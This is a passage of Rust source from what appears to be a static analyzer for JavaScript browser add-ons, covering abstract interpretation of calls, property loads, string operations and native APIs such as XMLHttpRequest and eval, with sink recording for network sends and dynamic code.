                    stmt_id,
                    Loc::exact(self.env.event_registry, slots::HANDLERS),
                    Strength::Weak,
                );
                let ev = AValue::obj(self.env.event_object);
                self.dispatch_closures(
                    stmt_id,
                    ctx,
                    func,
                    frame,
                    &mut st,
                    None,
                    &handlers,
                    &None,
                    &[ev],
                    false,
                );
                self.flow(stmt_id, ctx, st, |k| k != EdgeKind::Uncaught);
            }
        }
    }

    /// Property load on an abstract value, including string methods and
    /// host-object fallbacks.
    fn load_prop(&mut self, stmt: StmtId, st: &State, ov: &AValue, pv: &Pre) -> AValue {
        let mut out = AValue::bottom();
        let hit: Vec<AllocSite> = ov.objs.iter().copied().collect();
        let strength = self.access_strength(st, &hit, pv);
        for site in &hit {
            self.record_read(
                stmt,
                Loc {
                    site: *site,
                    prop: *pv,
                },
                strength,
            );
            if let Some(o) = st.object(*site) {
                let mut v = o.read_prop(pv);
                // Method fallback for array/object helpers.
                if let Pre::Exact(name) = pv {
                    if !o.props.contains_key(name) {
                        if name == "length" && o.kind == ObjKind::Array {
                            v = v.join(&AValue::any_num());
                        } else if let Some(m) = natives::object_method(name) {
                            if let Some(ns) = self.sites.get(&SiteKey::Host(m)) {
                                v = v.join(&AValue::obj(ns));
                            }
                        }
                    }
                }
                out = out.join(&v);
            }
        }
        // Primitive string receivers: length + string methods.
        if ov.may_be_string() {
            match pv {
                Pre::Exact(name) if name == "length" => {
                    out = out.join(&AValue::any_num());
                }
                Pre::Exact(name) => match natives::string_method(name) {
                    Some(m) => {
                        if let Some(ns) = self.sites.get(&SiteKey::Host(m)) {
                            out = out.join(&AValue::obj(ns));
                        }
                    }
                    None => out = out.join(&AValue::undef()),
                },
                _ => out = out.join(&AValue::any()),
            }
        }
        // Number/bool receivers: treat property reads as undefined-ish.
        if ov.nums != NumDom::Bot || ov.bools != BoolDom::Bot {
            out = out.join(&AValue::undef());
        }
        out
    }

    /// Shared implementation for `Call` and `EventDispatch`.
    #[allow(clippy::too_many_arguments)]
    fn handle_call(
        &mut self,
        stmt_id: StmtId,
        ctx: CtxId,
        func: IrFuncId,
        frame: AllocSite,
        st: &mut State,
        dst: &Place,
        callee: &Operand,
        this: &Option<Operand>,
        args: &[Operand],
        is_new: bool,
    ) {
        let cv = self.eval(stmt_id, func, frame, st, callee);
        let this_v = this
            .as_ref()
            .map(|t| self.eval(stmt_id, func, frame, st, t));
        let arg_vs: Vec<AValue> = args
            .iter()
            .map(|a| self.eval(stmt_id, func, frame, st, a))
            .collect();
        if cv.may_be_primitive() {
            self.implicit_throw(stmt_id, ctx, st);
        }
        self.dispatch_closures(
            stmt_id,
            ctx,
            func,
            frame,
            st,
            Some(dst.clone()),
            &cv,
            &this_v,
            &arg_vs,
            is_new,
        );
    }

    /// Invokes every callable object in `cv`: natives immediately, addon
    /// functions via worklist + return links. Flows to successors when an
    /// immediate result exists.
    #[allow(clippy::too_many_arguments)]
    fn dispatch_closures(
        &mut self,
        stmt_id: StmtId,
        ctx: CtxId,
        func: IrFuncId,
        frame: AllocSite,
        st: &mut State,
        dst: Option<Place>,
        cv: &AValue,
        this_v: &Option<AValue>,
        arg_vs: &[AValue],
        is_new: bool,
    ) {
        let mut native_ids: Vec<NativeId> = Vec::new();
        let mut addon: Vec<(IrFuncId, AllocSite)> = Vec::new();
        let mut has_noncallable_obj = false;
        for site in &cv.objs {
            match st.object(*site).map(|o| o.kind.clone()) {
                Some(ObjKind::Native(id)) => native_ids.push(id),
                Some(ObjKind::Function(fi)) => addon.push((IrFuncId(fi.0), *site)),
                Some(_) => has_noncallable_obj = true,
                None => {}
            }
        }
        if has_noncallable_obj {
            self.implicit_throw(stmt_id, ctx, st);
        }

        let unknown_callee = cv.objs.is_empty();
        let mut immediate: Option<AValue> = None;
        let mut pending_callbacks: Vec<(AValue, Option<AValue>, Vec<AValue>)> = Vec::new();

        for id in native_ids {
            self.native_targets
                .entry(stmt_id)
                .or_default()
                .insert(id);
            let name = self.env.spec(id).name;
            if self.config.security.interesting_apis.contains(name) {
                self.api_uses.insert((stmt_id, name.to_owned()));
            }
            let r = self.apply_native(
                id,
                stmt_id,
                ctx,
                st,
                this_v,
                arg_vs,
                &mut pending_callbacks,
            );
            immediate = Some(match immediate {
                Some(v) => v.join(&r),
                None => r,
            });
        }
        if unknown_callee {
            // Robustness for missing stubs: continue with an unknown value.
            immediate = Some(match immediate {
                Some(v) => v.join(&AValue::any()),
                None => AValue::any(),
            });
        }

        // Write the immediate (native / unknown-callee) result BEFORE the
        // addon calls are spawned, so callee states -- and therefore the
        // state flowing back through handle_exit -- already contain it and
        // the later weak join does not seed a spurious `undefined`.
        if let Some(ret) = &immediate {
            if let Some(d) = &dst {
                self.write_place(stmt_id, func, frame, st, d, ret);
            }
        }

        // Addon calls.
        for (fid, closure) in addon {
            self.call_targets
                .entry(stmt_id)
                .or_default()
                .insert(fid);
            self.do_addon_call(
                stmt_id, ctx, func, st, fid, closure, this_v, arg_vs, dst.clone(), is_new,
            );
        }

        // Callback invocations requested by natives (forEach, geolocation).
        for (cb, cb_this, cb_args) in pending_callbacks {
            self.dispatch_closures(
                stmt_id, ctx, func, frame, st, None, &cb, &cb_this, &cb_args, false,
            );
        }

        if immediate.is_some() {
            self.flow(stmt_id, ctx, st.clone(), |k| k != EdgeKind::Uncaught);
        }
        // Addon-only calls: successors receive state when the callee exits.
    }

    #[allow(clippy::too_many_arguments)]
    fn do_addon_call(
        &mut self,
        call_stmt: StmtId,
        ctx: CtxId,
        caller_func: IrFuncId,
        st: &State,
        fid: IrFuncId,
        closure: AllocSite,
        this_v: &Option<AValue>,
        arg_vs: &[AValue],
        dst: Option<Place>,
        is_new: bool,
    ) {
        let callee = self.lowered.program.func(fid);
        let new_ctx = self.ctxs.push(ctx, call_stmt, self.config.context_depth);
        let mut callee_st = st.clone();
        let fsite = self.alloc_fresh(
            &mut callee_st,
            SiteKey::Frame(fid, new_ctx),
            ObjKind::Host("frame"),
        );
        let singleton = callee_st
            .object(fsite)
            .is_some_and(|o| o.singleton);
        let strength = if singleton {
            Strength::Strong
        } else {
            Strength::Weak
        };

        // Parameters.
        for i in 0..callee.param_count {
            let v = arg_vs
                .get(i as usize)
                .cloned()
                .unwrap_or_else(AValue::undef);
            let key = self.var_key(i);
            self.record_write(
                call_stmt,
                Loc {
                    site: fsite,
                    prop: key,
                },
                strength,
            );
            if let Some(o) = callee_st.heap.get_mut(fsite) {
                o.write_prop(&key, &v, singleton);
            }
        }
        // Scope chain from the closure.
        let chain = callee_st.read_slot([closure], slots::SCOPE);
        callee_st.write_slot(fsite, slots::CHAIN, chain);
        // Self-binding for named functions.
        if !callee.name.is_empty() {
            if let Some(idx) = callee.lookup_var(&callee.name) {
                let is_param = callee.vars[idx as usize].is_param;
                if !is_param {
                    let key = self.var_key(idx);
                    if let Some(o) = callee_st.heap.get_mut(fsite) {
                        o.write_prop(&key, &AValue::obj(closure), singleton);
                    }
                }
            }
        }
        // `this` binding.
        let new_site = if is_new {
            Some(self.alloc_fresh(
                &mut callee_st,
                SiteKey::NativeAlloc(call_stmt, new_ctx, "new"),
                ObjKind::Plain,
            ))
        } else {
            None
        };
        let tv = match (new_site, this_v) {
            (Some(s), _) => AValue::obj(s),
            (None, Some(t)) => t.clone(),
            (None, None) => AValue::obj(self.env.global),
        };
        callee_st.write_slot(fsite, slots::THIS, tv);
        self.record_write(
            call_stmt,
            Loc::exact(fsite, slots::THIS),
            strength,
        );
        self.push_state(callee.entry, new_ctx, callee_st);

        // Locate the CallResult node right after the call (absent for
        // EventDispatch).
        let result_node = self
            .lowered
            .cfg
            .succs(call_stmt)
            .iter()
            .map(|(t, _)| *t)
            .find(|t| {
                matches!(
                    self.lowered.program.stmt(*t).kind,
                    IrStmtKind::CallResult { .. }
                )
            });
        let link = RetLink {
            call: call_stmt,
            caller_ctx: ctx,
            caller_func,
            callee_frame: fsite,
            dst,
            new_site,
            result_node,
        };
        let links = self.ret_links.entry((fid, new_ctx)).or_default();
        if links.insert(link) {
            // A new caller: if the callee exit already has state, replay it.
            self.enqueue(callee.exit, new_ctx);
        }
    }

    fn handle_exit(
        &mut self,
        stmt_id: StmtId,
        ctx: CtxId,
        st: &State,
        func: IrFuncId,
        frame: AllocSite,
    ) {
        let _ = stmt_id;
        let links = match self.ret_links.get(&(func, ctx)) {
            Some(l) => l.clone(),
            None => return, // top level: analysis ends here
        };
        // If the exit is reachable by falling off the end (any non-Return,
        // non-Uncaught incoming edge), the function may return `undefined`.
        let may_fall_off = self
            .lowered
            .cfg
            .preds(stmt_id)
            .iter()
            .any(|(_, k)| !matches!(k, EdgeKind::Return | EdgeKind::Uncaught));
        for link in links {
            let mut out = st.clone();
            let mut retv = out.read_slot([link.callee_frame], slots::RET);
            if may_fall_off || retv.is_bottom() {
                retv = retv.join(&AValue::undef());
            }
            // The return-value transfer belongs to the CallResult node so
            // that argument flows (into the call) and result flows (out of
            // it) stay separate in the PDG.
            let attr = link.result_node.unwrap_or(link.call);
            let ret_strength =
                self.access_strength(&out, &[link.callee_frame], &Pre::exact(slots::RET));
            self.record_read(
                attr,
                Loc::exact(link.callee_frame, slots::RET),
                ret_strength,
            );
            if let Some(ns) = link.new_site {
                retv = retv.without_objects().join(&AValue::obj(ns)).join(&AValue::objects(
                    retv.objs.iter().copied(),
                ));
            }
            if let Some(d) = &link.dst {
                let caller_frame = self.frame_site(link.caller_func, link.caller_ctx);
                // Mixed native+addon callee sets: the native result was
                // already written at the Call node; the CallResult write
                // must be weak (a join) so the Call's definition stays
                // alive in the DDG and the native value is preserved.
                let mixed = self
                    .native_targets
                    .get(&link.call)
                    .is_some_and(|n| !n.is_empty());
                if mixed {
                    self.write_place_weak(
                        attr,
                        link.caller_func,
                        caller_frame,
                        &mut out,
                        d,
                        &retv,
                    );
                } else {
                    self.write_place(
                        attr,
                        link.caller_func,
                        caller_frame,
                        &mut out,
                        d,
                        &retv,
                    );
                }
            }
            self.flow(link.call, link.caller_ctx, out, |k| {
                k != EdgeKind::Uncaught
            });
        }
        let _ = frame;
    }

    /// Applies a native's declarative semantics.
    #[allow(clippy::too_many_arguments)]
    fn apply_native(
        &mut self,
        id: NativeId,
        stmt: StmtId,
        ctx: CtxId,
        st: &mut State,
        this_v: &Option<AValue>,
        args: &[AValue],
        callbacks: &mut Vec<(AValue, Option<AValue>, Vec<AValue>)>,
    ) -> AValue {
        let behavior = self.env.spec(id).behavior.clone();
        let arg = |i: usize| args.get(i).cloned().unwrap_or_else(AValue::undef);
        match behavior {
            NativeBehavior::ReturnAny => AValue::any(),
            NativeBehavior::ReturnHost(name) => match self.sites.get(&SiteKey::Host(name)) {
                Some(site) => AValue::obj(site),
                None => AValue::any(),
            },
            NativeBehavior::ReturnUndefined => AValue::undef(),
            NativeBehavior::ReturnAnyString => AValue::any_str(),
            NativeBehavior::ReturnAnyNum => AValue::any_num(),
            NativeBehavior::ReturnAnyBool => AValue::any_bool(),
            NativeBehavior::CoerceString => {
                AValue::str(self.degrade(arg(0).to_abstract_string()))
            }
            NativeBehavior::XhrConstructor => {
                let site = self.alloc_xhr(stmt, ctx, st);
                AValue::obj(site)
            }
            NativeBehavior::XhrWrapper => {
                let site = self.alloc_xhr(stmt, ctx, st);
                let url = self.degrade(arg(0).to_abstract_string());
                st.write_slot(site, slots::URL, AValue::str(url));
                self.record_write(
                    stmt,
                    Loc::exact(site, slots::URL),
                    Strength::Strong,
                );
                AValue::obj(site)
            }
            NativeBehavior::XhrOpen => {
                let url = self.degrade(arg(1).to_abstract_string());
                if let Some(t) = this_v {
                    for site in &t.objs {
                        let strength = self.access_strength(st, &[*site], &Pre::exact(slots::URL));
                        self.record_write(stmt, Loc::exact(*site, slots::URL), strength);
                        if strength == Strength::Strong {
                            st.write_slot(*site, slots::URL, AValue::str(url.clone()));
                        } else {
                            let old = st.read_slot([*site], slots::URL);
                            st.write_slot(*site, slots::URL, old.join(&AValue::str(url.clone())));
                        }
                    }
                }
                AValue::undef()
            }
            NativeBehavior::XhrSend => {
                let mut domain = Pre::Bot;
                if let Some(t) = this_v {
                    let hit: Vec<AllocSite> = t.objs.iter().copied().collect();
                    for site in &t.objs {
                        let strength =
                            self.access_strength(st, &hit, &Pre::exact(slots::URL));
                        self.record_read(stmt, Loc::exact(*site, slots::URL), strength);
                        let url = st.read_slot([*site], slots::URL);
                        domain = domain.join(&url.strs);
                        // Response callbacks become event-loop handlers.
                        if let Some(o) = st.object(*site) {
                            let mut handlers = AValue::bottom();
                            for cb in ["onreadystatechange", "onload", "onerror"] {
                                handlers = handlers
                                    .join(&o.read_prop(&Pre::exact(cb)).without_primitives());
                            }
                            if !handlers.objs.is_empty() {
                                let old =
                                    st.read_slot([self.env.event_registry], slots::HANDLERS);
                                st.write_slot(
                                    self.env.event_registry,
                                    slots::HANDLERS,
                                    old.join(&handlers),
                                );
                            }
                        }
                    }
                }
                self.record_sink(stmt, SinkKind::Send, domain);
                AValue::undef()
            }
            NativeBehavior::AddEventListener | NativeBehavior::SetTimeout => {
                let handler_idx = if behavior == NativeBehavior::AddEventListener {
                    1
                } else {
                    0
                };
                let h = arg(handler_idx);
                if behavior == NativeBehavior::SetTimeout && h.may_be_string() {
                    // setTimeout with a code string = dynamic code.
                    self.api_uses
                        .insert((stmt, "setTimeout$string".to_owned()));
                    self.record_sink(stmt, SinkKind::Eval, Pre::Bot);
                }
                let old = st.read_slot([self.env.event_registry], slots::HANDLERS);
                st.write_slot(
                    self.env.event_registry,
                    slots::HANDLERS,
                    old.join(&h.without_primitives()),
                );
                self.record_write(
                    stmt,
                    Loc::exact(self.env.event_registry, slots::HANDLERS),
                    Strength::Weak,
                );
                AValue::any_num()
            }
            NativeBehavior::RemoveEventListener => AValue::undef(),
            NativeBehavior::Eval => {
                self.record_sink(stmt, SinkKind::Eval, Pre::Bot);
                AValue::any()
            }
            NativeBehavior::ScriptLoader => {
                let domain = arg(0).to_abstract_string();
                self.record_sink(stmt, SinkKind::ScriptLoader, domain);
                AValue::any()
            }
            NativeBehavior::Str(op) => {
                let mut v = self.apply_str_op(op, stmt, ctx, st, this_v, args);
                v.strs = self.degrade(v.strs);
                v
            }
            NativeBehavior::ArrayPush => {
                if let Some(t) = this_v {
                    for site in &t.objs {
                        self.record_write(
                            stmt,
                            Loc {
                                site: *site,
                                prop: Pre::any(),
                            },
                            Strength::Weak,
                        );
                        if let Some(o) = st.heap.get_mut(*site) {
                            o.write_prop(&Pre::any(), &arg(0), false);
                        }
                    }
                }
                AValue::any_num()
            }
            NativeBehavior::ArrayJoin => {
                let mut v = AValue::bottom();
                if let Some(t) = this_v {
                    for site in &t.objs {
                        self.record_read(
                            stmt,
                            Loc {
                                site: *site,
                                prop: Pre::any(),
                            },
                            Strength::Weak,
                        );
                        if let Some(o) = st.object(*site) {
                            v = v.join(&o.read_prop(&Pre::any()));
                        }
                    }
                }
                AValue::str(v.to_abstract_string().unknown_derived())
            }
            NativeBehavior::InvokeCallback {
                arg_index,
                callback_args,
            } => {
                let cb = arg(arg_index);
                let cb_args: Vec<AValue> = callback_args
                    .iter()
                    .map(|name| match self.sites.get(&SiteKey::Host(name)) {
                        Some(s) => AValue::obj(s),
                        None => AValue::any(),
                    })
                    .collect();
                callbacks.push((cb.without_primitives(), None, cb_args));
                AValue::undef()
            }
            NativeBehavior::ReadSource(host, prop) => {
                match self.sites.get(&SiteKey::Host(host)) {
                    Some(site) => {
                        self.record_read(
                            stmt,
                            Loc::exact(site, prop),
                            Strength::Weak,
                        );
                        match st.object(site) {
                            Some(o) => o.read_prop(&Pre::exact(prop)),
                            None => AValue::any(),
                        }
                    }
                    None => AValue::any(),
                }
            }
            NativeBehavior::PrefWrite => {
                self.record_sink(stmt, SinkKind::PrefWrite, Pre::Bot);
                AValue::undef()
            }
            NativeBehavior::PrefRead => {
                let mut v = AValue::any_str();
                v.nums = NumDom::Top;
                v.bools = BoolDom::Top;
                v
            }
        }
    }

    fn apply_str_op(
        &mut self,
        op: StrOp,
        stmt: StmtId,
        ctx: CtxId,
        st: &mut State,
        this_v: &Option<AValue>,
        args: &[AValue],
    ) -> AValue {
        let recv = this_v
            .as_ref()
            .map(AValue::to_abstract_string)
            .unwrap_or(Pre::any());
        let arg = |i: usize| args.get(i).cloned().unwrap_or_else(AValue::undef);
        match op {
            StrOp::ToLowerCase => AValue::str(recv.to_lowercase()),
            StrOp::ToUpperCase => AValue::str(recv.unknown_derived()),
            StrOp::IndexOf => AValue::any_num(),
            StrOp::Substring => {
                let from = arg(0).nums.as_const();
                let to = arg(1).nums.as_const();
                match (from, to) {
                    (Some(f), Some(t)) if f == 0.0 && t >= 0.0 => {
                        AValue::str(recv.leading_slice(t as usize))
                    }
                    (Some(0.0), None) => AValue::str(recv),
                    _ => AValue::str(recv.unknown_derived()),
                }
            }
            StrOp::CharAt => AValue::any_str(),
            StrOp::Replace | StrOp::Match => AValue::str(recv.unknown_derived()),
            StrOp::Split => {
                let site = self.alloc_fresh(
                    st,
                    SiteKey::NativeAlloc(stmt, ctx, "split"),
                    ObjKind::Array,
                );
                if let Some(o) = st.heap.get_mut(site) {
                    o.write_prop(&Pre::any(), &AValue::any_str(), false);
                    o.write_prop(&Pre::exact("length"), &AValue::any_num(), false);
                }
                AValue::obj(site)
            }
            StrOp::Concat => {
                let mut out = recv;
                for a in args {
                    out = out.concat(&a.to_abstract_string());
                }
                AValue::str(out)
            }
            StrOp::Trim => match recv {
                Pre::Exact(s) => AValue::str(Pre::exact(s.trim())),
                other => AValue::str(other.unknown_derived()),
            },
            StrOp::ToString => AValue::str(recv),
        }
    }

    fn alloc_xhr(&mut self, stmt: StmtId, ctx: CtxId, st: &mut State) -> AllocSite {
        let site = self.alloc_fresh(
            st,
            SiteKey::NativeAlloc(stmt, ctx, "xhr"),
            ObjKind::Host("xhr"),
        );
        let methods = [
            ("open", "xhr.open"),
            ("send", "xhr.send"),
            ("setRequestHeader", "xhr.setRequestHeader"),
            ("abort", "xhr.abort"),
            ("overrideMimeType", "xhr.overrideMimeType"),
        ];
        for (prop, native) in methods {
            if let Some(ns) = self.sites.get(&SiteKey::Host(native)) {
                if let Some(o) = st.heap.get_mut(site) {
                    o.write_prop(&Pre::exact(prop), &AValue::obj(ns), true);
                }
            }
        }
        if let Some(o) = st.heap.get_mut(site) {
            o.write_prop(&Pre::exact("responseText"), &AValue::any_str(), true);
            o.write_prop(&Pre::exact("responseXML"), &AValue::any(), true);
            o.write_prop(&Pre::exact("status"), &AValue::any_num(), true);
            o.write_prop(&Pre::exact("readyState"), &AValue::any_num(), true);
        }
        site
    }

    /// Degrades a string under the configured domain: with the
    /// constant-only ablation, proper prefixes become unknown.
    fn degrade(&self, p: Pre) -> Pre {
        match (self.config.string_domain, &p) {
            (StringDomain::ConstantOnly, Pre::Prefix(s)) if !s.is_empty() => Pre::any(),
            _ => p,
        }
    }

    fn record_sink(&mut self, stmt: StmtId, kind: SinkKind, domain: Pre) {
        let slot = self
            .sink_domains
            .entry((stmt, kind))
            .or_insert(Pre::Bot);
        *slot = slot.join(&domain);
    }
}

/// Projects the context-qualified transition graph's cycles down to
/// statements: a statement is cyclic if any of its context-qualified
/// nodes lies in a non-trivial SCC (or has a self loop).
fn cyclic_statements(transitions: &BTreeSet<(CtxNode, CtxNode)>) -> BTreeSet<StmtId> {
    // Dense node numbering (nodes are Copy ids, so keys are by value).
    let mut index_of: HashMap<CtxNode, usize> = HashMap::new();
    let mut nodes: Vec<CtxNode> = Vec::new();
    for &(a, b) in transitions {
        for n in [a, b] {
            if !index_of.contains_key(&n) {
                index_of.insert(n, nodes.len());
                nodes.push(n);
            }
        }
    }
    let n = nodes.len();
    let mut adj: Vec<Vec<usize>> = vec![Vec::new(); n];
    for (a, b) in transitions {
        adj[index_of[a]].push(index_of[b]);
    }
    // Iterative Tarjan SCC.
    let mut index = vec![usize::MAX; n];
    let mut low = vec![0usize; n];
    let mut on_stack = vec![false; n];
    let mut stack = Vec::new();
    let mut next = 0usize;
    let mut out = BTreeSet::new();
    #[derive(Clone, Copy)]
    struct Frame {
        v: usize,
        pos: usize,
    }
    for root in 0..n {
        if index[root] != usize::MAX {
            continue;
        }
        let mut call = vec![Frame { v: root, pos: 0 }];
        while let Some(fr) = call.last_mut() {
            let v = fr.v;
            if fr.pos == 0 {
                index[v] = next;
                low[v] = next;
                next += 1;
                stack.push(v);
                on_stack[v] = true;
            }
            if fr.pos < adj[v].len() {
                let w = adj[v][fr.pos];
                fr.pos += 1;
                if index[w] == usize::MAX {
                    call.push(Frame { v: w, pos: 0 });
                } else if on_stack[w] {
                    low[v] = low[v].min(index[w]);
                }
            } else {
                call.pop();
                if let Some(p) = call.last() {
                    low[p.v] = low[p.v].min(low[v]);
                }
                if low[v] == index[v] {
                    let mut comp = Vec::new();
                    loop {
                        let w = stack.pop().expect("scc stack");
                        on_stack[w] = false;
                        comp.push(w);
                        if w == v {
                            break;
                        }
                    }
                    if comp.len() > 1 || adj[v].contains(&v) {
                        out.extend(comp.into_iter().map(|i| nodes[i].0));
                    }
                }
            }
        }
    }
    out
}

/// Abstract unary operators.
fn abstract_unop(op: UnaryOp, v: &AValue) -> AValue {
    match op {
        UnaryOp::Not => {
            let mut out = AValue::bottom();
            out.bools = v.truthiness().not();
            if out.bools == BoolDom::Bot {
                out.bools = BoolDom::Top;
            }
            out
        }
        UnaryOp::Neg => AValue {
            nums: to_num(v).unop(|n| -n),
            ..AValue::bottom()
        },
        UnaryOp::Pos => AValue {
            nums: to_num(v),
            ..AValue::bottom()
        },
        UnaryOp::BitNot => AValue {
            nums: to_num(v).unop(|n| !(n as i64 as i32) as f64),
            ..AValue::bottom()
        },
        UnaryOp::Void => AValue::undef(),
        UnaryOp::Typeof | UnaryOp::Delete => AValue::any(), // lowered separately
    }
}

/// Coerces to the numeric component (conservative).
fn to_num(v: &AValue) -> NumDom {
    let mut n = v.nums;
    if v.undef || v.null || v.bools != BoolDom::Bot || !v.strs.is_bottom() || !v.objs.is_empty()
    {
        // Coercions of non-number parts produce some number (or NaN).
        n = n.join(&NumDom::Top);
    }
    if n == NumDom::Bot {
        NumDom::Top
    } else {
        n
    }
}

/// Abstract `typeof`.
fn abstract_typeof(v: &AValue, st: &State) -> AValue {
    let mut tags: BTreeSet<&'static str> = BTreeSet::new();
    if v.undef {
        tags.insert("undefined");
    }
    if v.null {
        tags.insert("object");
    }
    if v.bools != BoolDom::Bot {
        tags.insert("boolean");
    }
    if v.nums != NumDom::Bot {
        tags.insert("number");
    }
    if !v.strs.is_bottom() {
        tags.insert("string");
    }
    for site in &v.objs {
        match st.object(*site).map(|o| o.kind.is_callable()) {
            Some(true) => {
                tags.insert("function");
            }
            _ => {
                tags.insert("object");
            }
        }
    }
    match tags.len() {
        0 => AValue::str(Pre::exact("undefined")),
        1 => AValue::str(Pre::exact(*tags.iter().next().expect("one tag"))),
        _ => AValue::any_str(),
    }
}

/// Abstract binary operators.
fn abstract_binop(op: BinaryOp, l: &AValue, r: &AValue) -> AValue {
    use BinaryOp::*;
    match op {
        Add => {
            let mut out = AValue::bottom();
            let l_stringy = l.may_be_string() || !l.objs.is_empty();
            let r_stringy = r.may_be_string() || !r.objs.is_empty();
            if l_stringy || r_stringy {
                out.strs = l.to_abstract_string().concat(&r.to_abstract_string());
            }
            let l_numy = l.undef || l.null || l.bools != BoolDom::Bot || l.nums != NumDom::Bot;
            let r_numy = r.undef || r.null || r.bools != BoolDom::Bot || r.nums != NumDom::Bot;
            if (l_numy || l.nums != NumDom::Bot) && (r_numy || r.nums != NumDom::Bot) {
                out.nums = match (l.nums, r.nums) {
                    (NumDom::Const(a), NumDom::Const(b))
                        if !l_stringy && !r_stringy && l.bools == BoolDom::Bot
                            && r.bools == BoolDom::Bot
                            && !l.undef && !r.undef && !l.null && !r.null =>
                    {
                        NumDom::Const(a + b)
                    }
                    _ => NumDom::Top,
                };
            }
            if out == AValue::bottom() {
                // Everything was objects with unknown coercion.
                out.strs = Pre::any();
                out.nums = NumDom::Top;
            }
            out
        }
        Sub | Mul | Div | Mod | Shl | Shr | UShr | BitAnd | BitOr | BitXor => {
            let f = |a: f64, b: f64| match op {
                Sub => a - b,
                Mul => a * b,
                Div => a / b,
                Mod => a % b,
                Shl => ((a as i64 as i32) << ((b as i64 as u32) & 31)) as f64,
                Shr => ((a as i64 as i32) >> ((b as i64 as u32) & 31)) as f64,
                UShr => ((a as i64 as u32) >> ((b as i64 as u32) & 31)) as f64,
                BitAnd => ((a as i64 as i32) & (b as i64 as i32)) as f64,
                BitOr => ((a as i64 as i32) | (b as i64 as i32)) as f64,
                BitXor => ((a as i64 as i32) ^ (b as i64 as i32)) as f64,
                _ => unreachable!(),
            };
            AValue {
                nums: to_num(l).binop(&to_num(r), f),
                ..AValue::bottom()
            }
        }
        Eq | StrictEq | NotEq | StrictNotEq => {
            let negate = matches!(op, NotEq | StrictNotEq);
            let decided: Option<bool> = if !l.strs.is_bottom()
                && !r.strs.is_bottom()
                && !l.undef && !l.null && l.bools == BoolDom::Bot && l.nums == NumDom::Bot
                && l.objs.is_empty()
                && !r.undef && !r.null && r.bools == BoolDom::Bot && r.nums == NumDom::Bot
                && r.objs.is_empty()
            {
                l.strs.compare_eq(&r.strs)
            } else if let (Some(a), Some(b)) = (l.nums.as_const(), r.nums.as_const()) {
                if l.may_be_string() || r.may_be_string() || !l.objs.is_empty()
                    || !r.objs.is_empty() || l.undef || r.undef || l.null || r.null
                    || l.bools != BoolDom::Bot || r.bools != BoolDom::Bot
                {
                    None
                } else {
                    Some(a == b)
                }
            } else {
                None
            };
            AValue {
                bools: BoolDom::of_option(decided.map(|d| d != negate)),
                ..AValue::bottom()
            }
        }
        Lt | Le | Gt | Ge => {
            let decided = match (l.nums.as_const(), r.nums.as_const()) {
                (Some(a), Some(b))
                    if !l.may_be_string()
                        && !r.may_be_string()
                        && l.objs.is_empty()
                        && r.objs.is_empty() =>
                {
                    Some(match op {
                        Lt => a < b,
                        Le => a <= b,
                        Gt => a > b,
                        Ge => a >= b,
                        _ => unreachable!(),
                    })
                }
                _ => None,
            };
            AValue {
                bools: BoolDom::of_option(decided),
                ..AValue::bottom()
            }
        }
        In | Instanceof => AValue::any_bool(),
    }
}

// A small extension used by the machine.
trait ValueExt {
    fn without_primitives(&self) -> AValue;
}

impl ValueExt for AValue {
    fn without_primitives(&self) -> AValue {
        AValue::objects(self.objs.iter().copied())
    }
}
